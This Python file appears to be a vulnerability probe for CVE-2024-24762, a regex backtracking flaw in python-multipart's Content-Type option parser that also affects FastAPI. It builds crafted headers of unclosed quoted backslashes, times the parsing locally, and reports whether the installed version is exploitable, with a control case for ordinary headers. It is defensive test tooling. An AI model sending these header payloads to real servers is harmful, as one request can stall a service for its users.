# /// vertice-probe
# id = "PYSEC-2024-38"
# aliases = ["CVE-2024-24762", "GHSA-qf9m-vfgh-m389"]
# package = "python-multipart"
# summary = "Reading the options of a Content-Type header backtracks exponentially, so one header stops the server."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400", "CWE-1333"]
# kind = "redos"
# symbols = [
#   "multipart.multipart.parse_options_header",
#   "multipart.create_form_parser",
#   "multipart.parse_form",
#   "fastapi.Form",
#   "fastapi.UploadFile",
#   "fastapi.File",
#   "starlette.requests.Request.form",
# ]
#
# [[affected]]
# package = "fastapi"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.109.1" }] }]
#
# [[affected]]
# package = "python-multipart"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.0.7" }] }]
#
# [cases]
# attack = "time for an unclosed quoted option of backslashes grows exponentially"
# [cases.variants]
# form_parser = "the same growth from escaped pairs in the header given to create_form_parser"
# [cases.controls]
# options = "ordinary headers give type, boundary, charset and file name"
#
# [test]
# vulnerable = "0.0.6"
# fixed = "0.0.7"
# ///
"""CVE-2024-24762: exponential backtracking in Content-Type options."""

import json
import sys
import time
import warnings

warnings.simplefilter("ignore")


def load():
    try:
        from python_multipart import multipart  # the name since 0.0.13
    except ImportError:
        from multipart import multipart
    return multipart


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def attack():
    multipart = load()

    def read(count):
        kind, _ = multipart.parse_options_header('application/x-www-form-urlencoded; !="' + "\\" * count)
        if kind != b"application/x-www-form-urlencoded":
            raise RuntimeError("the type was not read: %r" % (kind,))
        return "the type was read"

    # the lengths differ by a third: linear 1.3, quadratic 1.8, exponential 16 and more
    return judge(read, 26, 34, 8, "repeats")


def form_parser():
    multipart = load()

    def read(count):
        headers = {"Content-Type": b'multipart/form-data; boundary=abc; x="' + b"\\z" * count}
        parser = multipart.create_form_parser(headers, lambda field: None, lambda file: None)
        if parser.content_type not in ("multipart/form-data", b"multipart/form-data"):
            raise RuntimeError("the type was not read: %r" % (parser.content_type,))
        return "the type was read"

    return judge(read, 16, 21, 8, "repeats")


def options():
    read = load().parse_options_header
    got = [
        read("text/plain"),
        read('form-data; name="a \\"b\\""; filename="x.txt"'),
        read("a/b; charset=utf-8; boundary=q"),
    ]
    wanted = [
        (b"text/plain", {}),
        (b"form-data", {b"name": b'a "b"', b"filename": b"x.txt"}),
        (b"a/b", {b"charset": b"utf-8", b"boundary": b"q"}),
    ]
    return ("works", "three headers read") if got == wanted else ("broken", repr(got))


CASES = {"attack": attack, "form_parser": form_parser, "options": options}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
